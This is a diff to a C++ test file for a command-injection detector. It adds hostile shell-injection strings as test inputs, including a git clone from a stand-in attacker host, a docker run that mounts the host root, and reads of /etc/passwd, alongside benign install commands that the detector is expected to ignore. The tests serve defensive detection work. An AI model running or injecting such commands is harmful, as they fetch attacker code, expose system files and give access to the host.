@@ -25,6 +25,8 @@ std::string Repeat(const std::string& s, size_t n) {
 TEST(CmdiTest, DetectsAttacks) {
   const std::vector<std::string> attacks = {
       "; cat /etc/passwd",
+      "; git clone https://evil.example/kit.git",
+      "|docker run -v /:/host alpine",
       "x|id",
       "a && whoami",
       ";echo 482113",
@@ -78,6 +80,11 @@ TEST(CmdiTest, DetectsAttacks) {
 
 TEST(CmdiTest, IgnoresBenign) {
   const std::vector<std::string> benign = {
+      // Install instructions, as package registries and READMEs give them.
+      "npm install @acme/left-pad@1.0.0",
+      "docker pull ghcr.io/acme/hello-world:1.0.2",
+      "git clone https://github.com/acme/app.git",
+      "pip install requests==2.31.0",
       "Tom & Jerry",
       "R&D",
       "salt & pepper; sugar",
